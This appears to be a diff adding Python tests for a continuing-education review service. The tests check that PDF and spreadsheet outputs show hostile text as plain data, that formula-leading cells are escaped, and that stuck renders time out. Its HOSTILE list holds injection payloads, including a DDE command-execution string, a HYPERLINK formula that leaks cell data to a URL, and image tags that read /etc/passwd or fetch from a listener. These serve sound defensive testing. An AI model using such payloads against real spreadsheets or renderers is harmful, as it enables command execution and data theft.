@@ -1,0 +1,113 @@
+"""Outputs are data, never code: hostile text in the PDF and XLSX forms and in import reports, and
+rendering that cannot hold the service up."""
+
+from __future__ import annotations
+
+import asyncio
+import http.server
+import io
+import threading
+import time
+from datetime import date, datetime, timezone
+
+import pytest
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from ce_service import rendering
+from ce_service.errors import Unavailable
+from ce_service.imports.tables import read_rows, table_bytes
+from ce_service.review.form import Course, Decision, FormData, render_pdf, render_xlsx
+
+
+class Hits(http.server.BaseHTTPRequestHandler):
+    """Counts every request: reportlab must make none."""
+
+    count = 0
+
+    def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
+        Hits.count += 1
+        self.send_response(200)
+        self.end_headers()
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+@pytest.fixture
+def listener():
+    server = http.server.HTTPServer(("127.0.0.1", 0), Hits)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    Hits.count = 0
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+
+
+def form(*titles: str) -> FormData:
+    at = datetime(2024, 5, 1, tzinfo=timezone.utc)
+    return FormData(
+        name="<b>张三</b>", national_id="522601198001011238", unit="=HYPERLINK(\"http://x\")", series="工程",
+        level="intermediate", year=2024,
+        courses=[Course(t, "<font size=40>机构</font>", date(2024, 5, 1), 12, "professional", "provider", "registered")
+                 for t in titles],
+        public=0, professional=12, total=12, rule="GZ-2021-ON", required=90, required_professional=60,
+        verdict="short", decisions=[Decision(titles[0], "approve", "@SUM(1+1)", "unit_reviewer", at)], generated_at=at)
+
+
+HOSTILE = ['<img src="{url}/x" width="5" height="5"/>', '<img src="/etc/passwd"/>', "<para><b>not closed",
+           "a & b < c > d", "=HYPERLINK(\"{url}/leak?\"&D3)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+
+def test_the_pdf_shows_markup_as_text_and_fetches_nothing(listener):
+    titles = [t.format(url=listener) for t in HOSTILE]
+    pdf = render_pdf(form(*titles))
+    assert Hits.count == 0
+    assert b"/Subtype /Image" not in pdf
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
+    for shown in ("<img", "<para><b>not closed", "a & b < c > d", "<b>张三</b>", "<font size=40>"):
+        assert shown in text.replace("\n", ""), shown
+
+
+def test_the_xlsx_form_holds_would_be_formulas_as_text(tmp_path):
+    titles = [t.format(url="http://127.0.0.1:1") for t in HOSTILE]
+    (tmp_path / "f.xlsx").write_bytes(render_xlsx(form(*titles)))
+    cells = [c for row in load_workbook(tmp_path / "f.xlsx").active.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert '=HYPERLINK("http://127.0.0.1:1/leak?"&D3)' in values and "@SUM(1+1)" in values
+    assert '=HYPERLINK("http://x")' in values
+
+
+def test_import_reports_never_start_a_formula_and_read_back_as_written(tmp_path):
+    header = ["记录编号", "身份证号", "姓名", "年度", "类别", "学时", "课程名称", "完成日期"]
+    rows = [["=1+1", "522601198001011238", "@me", 2024, "专业", "-5", "+课程", "2024-05-01"]]
+    csv = table_bytes("csv", header, rows).decode("utf-8-sig")
+    assert "'=1+1" in csv and "'@me" in csv and "'-5" in csv and "'+课程" in csv
+    # Sent back in (a fixed rejected-rows file), the cells are what was written.
+    [(_, cells)] = list(read_rows(table_bytes("csv", header, rows), "records"))
+    assert (cells["external_id"], cells["name"], cells["course_title"]) == ("=1+1", "@me", "+课程")
+    (tmp_path / "r.xlsx").write_bytes(table_bytes("xlsx", header, rows))
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    assert [c.data_type for c in sheet[2]][:3] == ["s", "s", "s"] and sheet["A2"].value == "=1+1"
+
+
+async def test_rendering_runs_in_its_own_process_and_a_stuck_one_is_replaced():
+    started = time.monotonic()
+    ticks = 0
+
+    async def tick():
+        nonlocal ticks
+        while True:
+            await asyncio.sleep(0.01)
+            ticks += 1
+
+    ticker = asyncio.create_task(tick())
+    with pytest.raises(Unavailable, match="longer than"):
+        await rendering.off_loop(time.sleep, 60, timeout=1)
+    ticker.cancel()
+    assert time.monotonic() - started < 30   # gave up at the timeout instead of waiting for the render
+    assert ticks > 10                          # the event loop went on meanwhile
+    # The stuck process was stopped; the next document renders in a fresh one.
+    pdf = await rendering.off_loop(render_pdf, form("建筑结构抗震设计"))
+    assert pdf.startswith(b"%PDF")
